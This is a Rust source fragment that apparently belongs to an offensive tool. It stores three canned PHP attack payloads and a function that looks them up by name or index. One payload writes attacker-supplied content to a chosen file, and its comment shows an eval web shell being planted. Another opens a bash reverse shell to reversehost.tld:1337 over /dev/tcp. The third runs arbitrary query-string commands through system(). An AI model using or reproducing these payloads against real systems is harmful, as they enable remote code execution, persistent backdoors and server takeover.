// ─────────────────────────────────────────────────────────────
// Canned scripts
// ─────────────────────────────────────────────────────────────

#[derive(Debug, Clone, Copy)]
pub struct Preset {
    pub name:    &'static str,
    pub summary: &'static str,
    pub source:  &'static str,
}

pub const PRESETS: [Preset; 3] = [
    Preset {
        name:    "write-file",
        summary: "write a query-string value into a file named by another",
        source:  "// This script will put your content in a given file.
// https://ctfinstance.test/thisscript.php?c=<?php eval($_GET['x'])?>&f=./here.php
// https://ctfinstance.test/here.php?x=runhereyourphpcodewithoutanyrestrictions();
$content=array_pop($_GET);
$filename=array_pop($_GET);
file_put_contents($filename,$content);",
    },
    Preset {
        name:    "reverse-shell",
        summary: "open a reverse shell to reversehost.tld:1337",
        source:  "// This script will execute a reverse shell to the server reversehost.tld on port 1337
popen(\"bash -c 'sh -i >& /dev/tcp/reversehost.tld/1337 0>&1'\",'r');",
    },
    Preset {
        name:    "system",
        summary: "run a query-string command with system()",
        source:  "// This script will execute a shell command with system
$command=array_pop($_GET);
$result=system($command);
print_r($result);",
    },
];

/// Look up by index or by name.
pub fn find(key: &str) -> Option<&'static Preset> {
    match key.parse::<usize>() {
        Ok(idx) => PRESETS.get(idx),
        Err(_) => PRESETS.iter().find(|p| p.name == key),
    }
}
